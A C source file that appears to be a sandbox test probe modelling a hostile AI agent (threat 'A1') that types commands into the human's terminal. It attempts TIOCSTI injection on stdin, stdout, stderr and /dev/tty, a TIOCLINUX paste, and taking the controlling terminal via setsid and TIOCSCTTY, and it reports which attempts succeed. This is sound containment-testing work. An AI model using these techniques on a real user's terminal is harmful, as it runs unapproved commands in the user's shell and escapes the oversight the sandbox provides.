/*
 * What a hostile agent runs to type into the human's terminal (threat A1): it pushes TEXT
 * followed by a newline into the input queue of every terminal it can reach with
 * ioctl(TIOCSTI) -- fds 0, 1, 2 and /dev/tty -- and also tries to make fd 0 its controlling
 * terminal from a new session first (TIOCSCTTY), and TIOCLINUX paste.  Whatever lands in the
 * queue of the human's terminal is read by the human's shell once `au run` exits.
 * One report line per attempt, "<where> <what> ok|<errno name>", to REPORT ("-" = stdout).
 *
 * usage: tiocsti TEXT REPORT
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/wait.h>
#include <unistd.h>

static const char *name_of(int err)
{
	switch (err) {
	case 0: return "ok";
	case EPERM: return "EPERM";
	case EIO: return "EIO";
	case ENOTTY: return "ENOTTY";
	case EINVAL: return "EINVAL";
	case ENXIO: return "ENXIO";
	case EACCES: return "EACCES";
	case EBADF: return "EBADF";
	case ENOENT: return "ENOENT";
	default: return strerror(err);
	}
}

/* Pushes text + "\n" one byte at a time; returns 0 or the errno of the first failure. */
static int push(int fd, const char *text)
{
	for (const char *p = text; *p; p++)
		if (ioctl(fd, TIOCSTI, p) < 0)
			return errno;
	char nl = '\n';
	return ioctl(fd, TIOCSTI, &nl) < 0 ? errno : 0;
}

int main(int argc, char **argv)
{
	if (argc != 3) {
		fprintf(stderr, "usage: %s TEXT REPORT\n", argv[0]);
		return 2;
	}
	const char *text = argv[1];
	FILE *out = strcmp(argv[2], "-") == 0 ? stdout : fopen(argv[2], "w");
	if (!out) {
		perror(argv[2]);
		return 2;
	}
	setvbuf(out, NULL, _IOLBF, 0);

	for (int fd = 0; fd <= 2; fd++) {
		fprintf(out, "fd%d isatty %s\n", fd, isatty(fd) ? "yes" : "no");
		fprintf(out, "fd%d TIOCSTI %s\n", fd, name_of(push(fd, text)));
	}

	int tty = open("/dev/tty", O_RDWR | O_NOCTTY);
	if (tty < 0) {
		fprintf(out, "devtty open %s\n", name_of(errno));
	} else {
		fprintf(out, "devtty open ok\n");
		fprintf(out, "devtty TIOCSTI %s\n", name_of(push(tty, text)));
		char paste = 3; /* TIOCLINUX subcode 3: paste the selection */
		fprintf(out, "devtty TIOCLINUX %s\n", ioctl(tty, TIOCLINUX, &paste) < 0 ? name_of(errno) : "ok");
		close(tty);
	}

	/* Steal fd 0 as controlling terminal: a new session, then TIOCSCTTY (force=0, then 1). */
	int pipefd[2];
	if (pipe(pipefd) < 0)
		return 2;
	pid_t child = fork();
	if (child == 0) {
		close(pipefd[0]);
		int r = 0;
		if (setsid() < 0)
			r = errno;
		else if (ioctl(0, TIOCSCTTY, 0) < 0 && ioctl(0, TIOCSCTTY, 1) < 0)
			r = errno;
		char line[128];
		int n;
		if (r != 0)
			n = snprintf(line, sizeof line, "steal TIOCSCTTY %s\n", name_of(r));
		else
			n = snprintf(line, sizeof line, "steal TIOCSCTTY ok\nsteal TIOCSTI %s\n", name_of(push(0, text)));
		if (write(pipefd[1], line, (size_t)n) < 0)
			_exit(1);
		_exit(0);
	}
	close(pipefd[1]);
	char buf[256];
	ssize_t n;
	while ((n = read(pipefd[0], buf, sizeof buf)) > 0)
		fwrite(buf, 1, (size_t)n, out);
	waitpid(child, NULL, 0);
	fprintf(out, "done\n");
	return 0;
}
